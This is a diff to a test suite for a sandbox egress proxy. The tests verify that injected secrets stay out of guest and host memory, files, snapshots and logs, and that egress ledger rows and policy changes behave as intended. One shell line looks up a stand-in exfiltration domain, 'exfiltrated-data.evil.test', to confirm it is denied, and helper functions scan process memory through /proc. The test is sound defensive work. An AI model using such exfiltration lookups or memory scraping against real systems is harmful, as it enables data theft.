@@ -1,9 +1,10 @@
 // SPDX-License-Identifier: Apache-2.0
 // Egress from a real guest to servers of the test's own: the README's example, the ledger as the API tells it.
+import { execFileSync } from "node:child_process";
 import { closeSync, openSync, readdirSync, readFileSync, readlinkSync, readSync, statSync } from "node:fs";
 import { join } from "node:path";
-import { assert, done, Sandbox, test, until } from "../sdk/lib.mjs";
-import { api, has, ledger, row, World } from "./lib-egress.mjs";
+import { assert, done, Sandbox, until } from "../sdk/lib.mjs";
+import { api, has, ledger, PATIENCE_MS, row, test, World } from "./lib-egress.mjs";
 
 const world = await World.start();
 const VALUE = "sk-live-5vTq8Zr2LmX0aYw7";
@@ -20,7 +21,7 @@ const sh = async (script) => {
 
 await test("the upstream receives the secret, the guest has a placeholder", async () => {
   await world.clear();
-  const r = await sh(`curl -sS -m 20 -H "Authorization: Bearer $API_KEY" "https://api.egress.test/ok?q=hidden-query"; echo " $API_KEY"`);
+  const r = await sh(`curl -sS -m 90 -H "Authorization: Bearer $API_KEY" "https://api.egress.test/ok?q=hidden-query"; echo " $API_KEY"`);
   assert.equal(r.code, 0, r.err);
   assert.match(r.out, /^\/ok of api\.egress\.test\n nbs_[0-9a-z]{40}\n$/);
   const { requests } = await world.seen();
@@ -33,7 +34,7 @@ await test("the upstream receives the secret, the guest has a placeholder", asyn
   assert.equal(seen.rule, "allow api.egress.test");
   assert.equal(seen.address, "10.199.77.10");
   assert.equal(seen.port, 443);
-  assert.ok(Date.now() - Date.parse(seen.time) < 60_000);
+  assert.ok(Date.now() - Date.parse(seen.time) < 2 * PATIENCE_MS);
 });
 
 await test("the value is in no memory, environment or file of the guest", async () => {
@@ -80,10 +81,63 @@ print(len(places), seen > 0, places[:5])
 `);
   const r = await sh("sleep 60 & sudo python3 /tmp/search.py; kill %1");
   assert.equal(r.out, "0 True []\n", r.err);
-}, 180_000);
+});
 
-await test("the value is not in the machine's process on the host, in no file of the host's, in no log", async () => {
-  const needle = Buffer.from(VALUE);
+const ctl = (...args) => execFileSync(`${process.env.NESTBOX_PREFIX}/sbin/nestboxctl`, ["-c", process.env.NESTBOX_CONF, ...args], { encoding: "utf8", stdio: "pipe" });
+const chunk = Buffer.alloc(1 << 24), needle = Buffer.from(VALUE);
+/** All of a process's memory. How many bytes, and how many pieces of it with a placeholder; throws if the value is there. */
+function searchMemory(pid) {
+  const mem = openSync(`/proc/${pid}/mem`, "r");
+  let bytes = 0, placeholders = 0;
+  try {
+    for (const line of readFileSync(`/proc/${pid}/maps`, "utf8").split("\n")) {
+      const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
+      if (!m || line.endsWith("[vvar]") || line.endsWith("[vsyscall]")) continue;
+      for (let at = BigInt(`0x${m[1]}`), end = BigInt(`0x${m[2]}`); at < end;) {
+        let n = 0;
+        try { n = readSync(mem, chunk, 0, Number(end - at < BigInt(chunk.length) ? end - at : BigInt(chunk.length)), at); } catch { break; }
+        if (!n) break;
+        const data = chunk.subarray(0, n);
+        assert.equal(data.indexOf(needle), -1, `in process ${pid}, ${line}`);
+        if (data.indexOf("nbs_") >= 0) placeholders++;
+        bytes += n;
+        at += BigInt(n);
+      }
+    }
+  } finally {
+    closeSync(mem);
+  }
+  return { bytes, placeholders };
+}
+/** Where a file has data: disks are mostly holes. */
+function extents(path) {
+  const { size, blocks } = statSync(path);
+  if (blocks * 512 >= size) return [[0, size]];
+  const seek = 'open(F, "<", $ARGV[0]) or die; my ($p, $s) = (0, -s F); while ($p < $s) { my $d = sysseek(F, $p, 3); last unless defined $d; $p = sysseek(F, $d, 4); print 0 + $d, " ", 0 + $p, "\\n" }';
+  return execFileSync("perl", ["-e", seek, path], { encoding: "utf8" }).split("\n").filter(Boolean).map((l) => l.split(" ").map(Number));
+}
+/** All files below a directory; those with a placeholder. Throws if the value is in one. */
+function searchFiles(dir, found = { files: 0, placeholders: [] }) {
+  for (const e of readdirSync(dir, { withFileTypes: true })) {
+    const path = join(dir, e.name);
+    if (e.isDirectory() && e.name !== "images") searchFiles(path, found);
+    else if (e.isFile()) {
+      found.files++;
+      const fd = openSync(path, "r");
+      let has = false;
+      for (const [from, to] of extents(path))
+        for (let at = from, n; at < to && (n = readSync(fd, chunk, 0, Math.min(chunk.length, to - at), at)); at += n === chunk.length ? n - 64 : n) {
+          assert.equal(chunk.subarray(0, n).indexOf(needle), -1, `in ${path}`);
+          has ||= chunk.subarray(0, n).indexOf("nbs_") >= 0;
+        }
+      if (has) found.placeholders.push(path);
+      closeSync(fd);
+    }
+  }
+  return found;
+}
+
+await test("the value is in no process on the host but the proxy, in no file or snapshot of the host's, in no log", async () => {
   const pids = readdirSync("/proc").filter((p) => /^\d+$/.test(p));
   const machine = pids.find((pid) => {
     try {
@@ -93,40 +147,28 @@ await test("the value is not in the machine's process on the host, in no file of
   });
   assert.ok(machine, "the machine's process");
   // All of the guest's memory, kernel and page cache included, and the monitor's own.
-  const mem = openSync(`/proc/${machine}/mem`, "r"), chunk = Buffer.alloc(1 << 24);
-  let bytes = 0, placeholders = 0;
-  for (const line of readFileSync(`/proc/${machine}/maps`, "utf8").split("\n")) {
-    const m = /^([0-9a-f]+)-([0-9a-f]+) r/.exec(line);
-    if (!m || line.endsWith("[vvar]") || line.endsWith("[vsyscall]")) continue;
-    for (let at = BigInt(`0x${m[1]}`), end = BigInt(`0x${m[2]}`); at < end;) {
-      let n = 0;
-      try { n = readSync(mem, chunk, 0, Number(end - at < BigInt(chunk.length) ? end - at : BigInt(chunk.length)), at); } catch { break; }
-      if (!n) break;
-      const data = chunk.subarray(0, n);
-      assert.equal(data.indexOf(needle), -1, `in ${line}`);
-      if (data.indexOf("nbs_") >= 0) placeholders++;
-      bytes += n;
-      at += BigInt(n);
-    }
-  }
-  closeSync(mem);
+  const { bytes, placeholders } = searchMemory(machine);
   assert.ok(bytes > 256 << 20 && placeholders > 0, `${bytes} bytes, ${placeholders} placeholders: nothing was searched`);
-  let files = 0;
-  const walk = (dir) => {
-    for (const e of readdirSync(dir, { withFileTypes: true })) {
-      const path = join(dir, e.name);
-      if (e.isDirectory() && e.name !== "images") walk(path);
-      else if (e.isFile()) {
-        files++;
-        const fd = openSync(path, "r");
-        for (let at = 0, n, size = statSync(path).blocks * 512; at < size + (1 << 24) && (n = readSync(fd, chunk, 0, chunk.length, at)); at += n - 64 > 0 ? n - 64 : n)
-          assert.equal(chunk.subarray(0, n).indexOf(needle), -1, `in ${path}`);
-        closeSync(fd);
-      }
-    }
-  };
-  for (const dir of [process.env.NESTBOX_STATE, process.env.NESTBOX_LOGS]) if (dir) walk(dir);
-  assert.ok(files > 10 || !process.env.NESTBOX_STATE);
+  // Daemons of this instance; a worker of the API was given the value and is not among them.
+  const daemons = ["nestboxd", "nestbox-gateway", "nestbox-runner", "nestbox-ssh", "nestbox-egress"], seen = new Set();
+  for (const pid of pids) {
+    let cmd = [];
+    try { cmd = readFileSync(`/proc/${pid}/cmdline`, "latin1").split("\0"); } catch { continue; }
+    const name = cmd[0].split("/").pop();
+    if (!daemons.includes(name) || !cmd.includes(process.env.NESTBOX_CONF)) continue;
+    seen.add(name);
+    if (name !== "nestbox-egress") assert.ok(searchMemory(pid).bytes > 1 << 16, name);
+    // Who has the values leaves no core: what is not dumpable belongs to root in /proc.
+    else assert.equal(statSync(`/proc/${pid}/maps`).uid, 0, "the proxy can be dumped");
+  }
+  assert.equal(seen.size, daemons.length, [...seen].join());
+  // A capture has all of the machine's memory and its disk; neither has more than the placeholder.
+  ctl("capture", sandbox.id, "sec-egress");
+  const found = { files: 0, placeholders: [] };
+  for (const dir of [process.env.NESTBOX_STATE, process.env.NESTBOX_LOGS]) searchFiles(dir, found);
+  ctl("uncapture", "sec-egress");
+  assert.ok(found.files > 10);
+  assert.ok(found.placeholders.some((f) => f.includes("sec-egress")), `the capture was not searched: ${found.placeholders.join()}`);
   for (const pid of pids) {
     let text = "";
     try { text = readFileSync(`/proc/${pid}/environ`, "latin1") + readFileSync(`/proc/${pid}/cmdline`, "latin1"); } catch { continue; }
@@ -134,16 +176,16 @@ await test("the value is not in the machine's process on the host, in no file of
   }
   const shown = await Promise.all([`/api/v2/sandboxes/${sandbox.id}`, "/api/v2/sandboxes", `/api/v2/sandboxes/${sandbox.id}/egress`].map((p) => api(p)));
   for (const r of shown) assert.ok(r.status === 200 && !r.body.includes(VALUE));
-}, 180_000);
+});
 
 await test("rows: filters, pages, lines, and no query string", async () => {
   const since = new Date().toISOString();
-  await sh(`for i in 1 2 3; do curl -sS -m 20 "http://web.egress.test/page$i?token=query-secret" >/dev/null; done
-    getent hosts exfiltrated-data.evil.test; curl -s -m 10 https://10.199.77.12/; python3 -c 'import socket; socket.create_connection(("10.199.77.14", 7000), 10).close()'`);
+  await sh(`for i in 1 2 3; do curl -sS -m 90 "http://web.egress.test/page$i?token=query-secret" >/dev/null; done
+    getent hosts exfiltrated-data.evil.test; curl -s -m 90 https://10.199.77.12/; python3 -c 'import socket; socket.create_connection(("10.199.77.14", 7000), 90).close()'`);
   await row(sandbox.id, { protocol: "dns", name: "exfiltrated-data.evil.test", decision: "deny", rule: "no allow rule names it" });
   await row(sandbox.id, { protocol: "tls", address: "10.199.77.12", port: 443, decision: "deny" });
   await row(sandbox.id, { address: "10.199.77.14", port: 7000, decision: "allow", rule: "allow 10.199.77.14:7000" });
-  await until(async () => (await ledger(sandbox.id, "&host=web.egress.test")).length >= 3, 20_000);
+  await until(async () => (await ledger(sandbox.id, "&host=web.egress.test")).length >= 3, PATIENCE_MS);
   const all = await ledger(sandbox.id);
   assert.ok(!JSON.stringify(all).includes("query-secret") && !JSON.stringify(all).includes("hidden-query"));
   for (const r of all) assert.ok(r.sandbox === sandbox.id && r.org && r.time && r.decision);
@@ -182,8 +224,8 @@ await test("a live tail has this sandbox's rows as they are written", async () =
     { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: stop.signal });
   assert.equal(r.headers.get("content-type"), "text/event-stream");
   await using other = await Sandbox.create({ allowNet: ["web.egress.test"] });
-  await other.sh`curl -sS -m 20 http://web.egress.test/other`.text();
-  await sh("curl -sS -m 20 http://web.egress.test/tail");
+  await other.sh`curl -sS -m 90 http://web.egress.test/other`.text();
+  await sh("curl -sS -m 90 http://web.egress.test/tail");
   let text = "";
   const got = (async () => {
     for await (const c of r.body) {
@@ -198,7 +240,7 @@ await test("a live tail has this sandbox's rows as they are written", async () =
   assert.ok(has(rows, { name: "web.egress.test", decision: "allow" }));
   // From a time on: what came before is there, too.
   const from = await fetch(new URL(`/api/v2/egress/tail?since=${rows.at(-1).time.replace(/.{4}Z$/, "Z")}&format=jsonl`, process.env.DENO_SANDBOX_ENDPOINT),
-    { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: AbortSignal.timeout(20_000) });
+    { headers: { authorization: `Bearer ${process.env.DENO_DEPLOY_TOKEN}` }, signal: AbortSignal.timeout(PATIENCE_MS) });
   const reader = from.body.getReader();
   const { value } = await reader.read();
   assert.ok(JSON.parse(Buffer.from(value).toString().split("\n")[0]).time >= rows.at(-1).time.slice(0, 19));
@@ -213,32 +255,32 @@ await test("a changed policy counts at once, for open connections, too", async (
   await using s = await Sandbox.create({ allowNet: ["web.egress.test", "raw.egress.test:7000"] });
   await s.fs.writeTextFile("/tmp/hold.py", `
 import socket, sys
-a = socket.create_connection(("raw.egress.test", 7000), 20)
-b = socket.create_connection(("web.egress.test", 80), 20)
+a = socket.create_connection(("raw.egress.test", 7000), 90)
+b = socket.create_connection(("web.egress.test", 80), 90)
 b.sendall(b"GET /first HTTP/1.1\\r\\nHost: web.egress.test\\r\\n\\r\\n"); b.recv(10000)
 a.sendall(b"ping"); print(a.recv(4), flush=True)
 try: print("a", a.recv(1) or "end", flush=True)
 except OSError as e: print("a", e.strerror, flush=True)
-b.settimeout(10)
+b.settimeout(90)
 b.sendall(b"GET /second HTTP/1.1\\r\\nHost: web.egress.test\\r\\n\\r\\n"); print("b", b.recv(12), flush=True)
 `);
   const held = await s.spawn("python3", { args: ["/tmp/hold.py"], stdout: "piped" });
-  await until(async () => (await world.seen()).requests.some((r) => r.url === "/first"), 20_000);
-  await until(async () => (await world.seen()).connections.includes("10.199.77.14:7000"), 20_000);
+  await until(async () => (await world.seen()).requests.some((r) => r.url === "/first"), PATIENCE_MS);
+  await until(async () => (await world.seen()).connections.includes("10.199.77.14:7000"), PATIENCE_MS);
   const r = await change(s.id, "PATCH", { allow_net: ["web.egress.test", "api.egress.test"] });
   assert.equal(r.status, 200, r.body);
   const { stdoutText } = await held.output();
   assert.match(stdoutText, /b'ping'\na Connection reset by peer\nb b'HTTP\/1\.1 200'/);
   await row(s.id, { name: "raw.egress.test", port: 7000, decision: "deny", reason: "the policy changed" });
-  assert.equal(await s.sh`curl -sS -m 20 https://api.egress.test/now -k -o /dev/null -w "%{http_code}"`.text(), "200");
+  assert.equal(await s.sh`curl -sS -m 90 https://api.egress.test/now -k -o /dev/null -w "%{http_code}"`.text(), "200");
   assert.match(await s.sh`getent hosts raw.egress.test || echo none`.text(), /none/);
-}, 120_000);
+});
 
 await test("a secret for a guest that had none: trusted at once, rotated without a new placeholder, taken away", async () => {
   await using s = await Sandbox.create({ allowNet: ["api.egress.test"] });
   const ask = async () => {
     await world.clear();
-    const out = await s.sh`curl -sS -m 20 -H "x-key: $KEY" https://api.egress.test/k 2>&1; echo " $KEY"`.text();
+    const out = await s.sh`curl -sS -m 90 -H "x-key: $KEY" https://api.egress.test/k 2>&1; echo " $KEY"`.text();
     return { out, keys: (await world.seen()).requests.map((r) => r.headers["x-key"]) };
   };
   // The server's own certificate is by an authority that the guest does not know.
@@ -250,7 +292,7 @@ await test("a secret for a guest that had none: trusted at once, rotated without
   const one = await ask();
   assert.equal(one.out.trim(), `/k of api.egress.test\n ${placeholder}`);
   assert.deepEqual(one.keys, ["first-value-1f8e"]);
-  const py = await s.sh`python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request('https://api.egress.test/py', headers={'x-key': os.environ['KEY']}), timeout=20).status)"`.text();
+  const py = await s.sh`python3 -c "import os, urllib.request as u; print(u.urlopen(u.Request('https://api.egress.test/py', headers={'x-key': os.environ['KEY']}), timeout=90).status)"`.text();
   assert.equal(py, "200\n");
   const rotated = await change(s.id, "PATCH", { secrets: { KEY: { value: "second-value-77aa" } } });
   assert.equal(rotated.json().secrets.KEY.placeholder, placeholder);
@@ -268,7 +310,7 @@ await test("a secret for a guest that had none: trusted at once, rotated without
   assert.notDeepEqual((await ask()).keys, ["second-value-77aa"]);
   const row1 = await row(s.id, { protocol: "https", method: "GET", path: "/k", secret: "KEY" });
   assert.equal(row1.status, 200);
-}, 120_000);
+});
 
 await test("changes that are refused change nothing", async () => {
   const before = (await api(policyOf(sandbox.id))).json();
